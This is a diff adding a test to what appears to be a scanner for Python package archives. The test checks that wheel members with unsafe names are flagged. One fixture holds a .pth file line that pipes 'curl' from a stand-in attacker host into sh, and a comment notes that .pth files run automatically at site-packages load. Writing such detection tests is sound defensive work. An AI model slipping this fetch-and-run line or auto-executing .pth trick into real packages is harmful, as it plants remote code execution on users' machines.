@@ -142,3 +142,24 @@ def test_a_zip_inside_a_zip_inside_an_sdist_is_reported_not_opened(tmp_path: Pat
     report = scan_tree(path, mode=ScanMode.PACKAGE)
     assert {f.file for f in report.findings} >= {"d.zip", "d.zip/inner.zip"}
     assert not any(f.severity is Severity.DANGER for f in report.findings)
+
+
+@pytest.mark.parametrize(
+    ("name", "data", "rule"),
+    [
+        # site(7) runs every .pth of site-packages whatever its name holds
+        (
+            "evil\x1b.pth",
+            b"import os; os.system('curl -s https://evil.example.com/x | sh')\n",
+            "CPL-THR-013",
+        ),
+        # Windows extracts it as pkg/__init__.py
+        ("pkg\\__init__.py", _PAYLOAD, "CPL-THR-015"),
+    ],
+)
+def test_a_member_of_an_unsafe_name_is_read_as_installers_extract_it(
+    tmp_path: Path, name: str, data: bytes, rule: str
+) -> None:
+    wheel = tmp_path / "pkg-1.0-py3-none-any.whl"
+    wheel.write_bytes(_zip({name: data, "pkg-1.0.dist-info/WHEEL": b"Wheel-Version: 1.0\n"}))
+    assert rule in {r for r, _ in _danger(wheel)}
